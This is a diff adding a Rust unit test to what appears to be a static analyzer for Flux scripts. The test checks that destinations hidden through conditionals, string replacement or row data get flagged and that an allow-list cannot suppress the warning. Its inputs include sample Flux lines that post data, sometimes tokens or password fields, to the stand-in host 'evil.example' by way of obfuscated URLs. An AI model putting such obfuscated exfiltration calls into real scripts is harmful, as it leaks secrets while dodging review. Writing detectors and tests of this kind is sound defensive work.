@@ -444,3 +444,27 @@ fn a_secret_is_found_wherever_a_script_gets_it() {
         assert!(shown.contains("flux::secret-literal") && !shown.contains(token), "{shown}");
     }
 }
+
+/// Whoever writes the script must not have the last word on what nobody can see.
+#[test]
+fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed() {
+    let allow = "\"flux::secret-literal\" = \"allow\"\n\"flux::unknown-bucket\" = \"allow\"\n\"flux::no-measurement\" = \"allow\"";
+    let post = "import \"http\"\nimport \"strings\"\nimport \"array\"\n";
+    let by = |script: &str| codes(&said(allow, ("flux", script.to_owned())));
+    for script in [
+        "token = if 1 == 1 then \"evil.example\" else \"x.example\"\nhttp.post(url: \"https://\" + token)",
+        "token = strings.replaceAll(v: \"evil#example\", t: \"#\", u: \".\")\nhttp.post(url: \"https://${token}\")",
+        "array.from(rows: [{password: \"evil.example\"}]) |> map(fn: (r) => ({r with x: http.post(url: \"https://\" + r.password)}))",
+        "import \"slack\"\ntoken = if 1 == 1 then \"evil.example\" else \"x\"\noption slack.defaultURL = \"https://\" + token\nslack.message(token: \"\", channel: \"c\", text: \"t\", color: \"good\")",
+        "password = strings.trimSpace(v: \" raw7 \")\nfrom(bucket: password) |> range(start: -1h) |> yield()",
+    ] {
+        assert_eq!(by(&format!("{post}{script}")), [(Code::FluxHiddenPlace, Severity::Warning)], "{script}");
+    }
+    for script in [
+        "e = \"\"\ntoken = \"https://${e}evil.example/x\"\nhttp.post(url: token)",
+        "x = if 1 == 1 then \"a.example\" else \"b.example\"\nhttp.post(url: \"https://\" + x)",
+        "token = \"S3KRIT\"\nhttp.post(url: \"https://a.example\", headers: {Authorization: \"Token \" + token})",
+    ] {
+        assert_eq!(by(&format!("{post}{script}")), [], "{script}");
+    }
+}
